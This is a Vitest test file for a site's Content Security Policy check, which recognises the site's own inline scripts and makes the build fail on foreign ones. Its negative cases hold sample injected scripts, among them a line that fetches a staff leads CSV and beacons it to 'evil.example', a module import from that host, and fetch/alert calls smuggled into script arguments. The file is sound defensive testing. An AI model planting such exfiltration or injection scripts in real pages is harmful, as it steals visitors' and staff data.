import { beforeAll, describe, expect, it } from "vitest";
import { sha256Source } from "#server/csp.ts";
import { inlineScriptSource } from "../inline-script";
import { restoreScrollSource } from "./react-router-scripts";
import { foreignScripts, siteScriptHashes, siteScripts } from "./site-inline-scripts";
import type { SiteScript } from "./site-script";

// Each of the site's own inline scripts as a built page carries it (React Router's as scripts/hydrate-after-paint.ts
// leaves them; tests/build/csp.test.ts checks every built page against the same recognisers).
const FONT = '("/assets/inter-latin-wght-normal-Dx4kXJAl.woff2")';
const head = `(${inlineScriptSource("app/lib/head-script.ts")})${FONT}`;
// A page without scripts (app/rendering/page-scripts.ts) carries this variant, and no other inline script.
const staticPageHead = `(${inlineScriptSource("app/lib/static-page-head-script.ts")})${FONT}`;
const scroll = () => `(${restoreScrollSource()})("react-router-scroll-positions", null)`;
const stream =
  "window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());";
const context = `window.__reactRouterContext = {"basename":"/","ssr":true,"isSpaMode":false};${stream}`;
const module = [
  'await new Promise(afterFirstPaint);const [route0,route1]=await Promise.all([import("/assets/root-D9R2Cjvi.js"),import("/assets/route-CyVIsH9k.js")]);;',
  "",
  "",
  '  window.__reactRouterManifest = {"entry":{"module":"/assets/entry.client-Ca7Yzjb-.js","imports":[]},"routes":{}};',
  '  window.__reactRouterRouteModules = {"root":route0,"routes/resource/route":route1};',
  "",
  'import("/assets/entry.client-Ca7Yzjb-.js");',
].join("\n");
const payload = 'window.__reactRouterContext.streamController.enqueue("[{\\"_1\\":2},\\"loaderData\\"]\\n");';
const payloadEnd = "window.__reactRouterContext.streamController.close();";
const shellTime = "requestAnimationFrame(function(){$RT=performance.now()});";

const page = (...scripts: string[]) =>
  `<!DOCTYPE html><html><head><script>${head}</script><script type="application/ld+json">{"@type":"BlogPosting"}</script></head>` +
  `<body><main>…</main>${scripts.map((script) => `<script>${script}</script>`).join("")}</body></html>`;

let known: SiteScript[];
beforeAll(async () => {
  known = await siteScripts();
});

describe("the site's own inline scripts", () => {
  it("are each recognised, and hashed for the page's CSP", () => {
    const scripts = [scroll(), context, payload, payloadEnd, shellTime, '$RC("B:1","S:1")'];
    const html = page(...scripts).replace("</body>", `<script type="module" async="">${module}</script></body>`);
    expect(foreignScripts("/resources/blogs/data-masking", html, known)).toEqual([]);
    expect(siteScriptHashes("/resources/blogs/data-masking", html, known).sort()).toEqual(
      [head, ...scripts, module].map(sha256Source).sort(),
    );
  });

  it("include the head script of a page without scripts, its only inline script", () => {
    const html = `<!DOCTYPE html><html><head><script>${staticPageHead}</script></head><body><main>…</main></body></html>`;
    expect(foreignScripts("/privacy-policy", html, known)).toEqual([]);
    expect(siteScriptHashes("/privacy-policy", html, known)).toEqual([sha256Source(staticPageHead)]);
  });

  it("stop the build at a script stored in content, naming the page and the script's first 80 characters", () => {
    const stored =
      'fetch("/staff/leads/export.csv").then((answer) => answer.text()).then((leads) => navigator.sendBeacon("https://evil.example", leads))';
    const html = page(context, payload, stored, payloadEnd);
    const message = `/resources/blogs/data-masking: an inline script the site does not write: ${JSON.stringify(stored.slice(0, 80))}`;
    expect(foreignScripts("/resources/blogs/data-masking", html, known)).toEqual([message]);
    expect(() => siteScriptHashes("/resources/blogs/data-masking", html, known)).toThrow(message);
  });

  it.each([
    ["code after a hydration chunk", `${payload}fetch("/staff/leads/export.csv")`],
    ["code as the data of a hydration chunk", 'window.__reactRouterContext.streamController.enqueue(fetch("/x"));'],
    ["code as React Router's context", `window.__reactRouterContext = {"a":fetch("/x")};${stream}`],
    ["code as the head script's argument", head.replace(/\("\/assets\/[^"]+"\)$/, '(fetch("/x"))')],
    ["code as the static page head script's argument", staticPageHead.replace(/\("\/assets\/[^"]+"\)$/, '(fetch("/x"))')],
    ["code after the static page head script", `${staticPageHead};fetch("/x")`],
    [
      "a module script that imports from elsewhere",
      module.replace('import("/assets/route-CyVIsH9k.js")', 'import("https://evil.example/x.js")'),
    ],
    ["code after React's boundary completion", '$RC("B:1","S:1");alert(1)'],
    ["code as the scroll restoration's key", scroll().replace('"react-router-scroll-positions"', "alert(1)")],
  ])("refuse %s", (_name, script) => {
    expect(foreignScripts("/", page(script), known)).toHaveLength(1);
  });
});
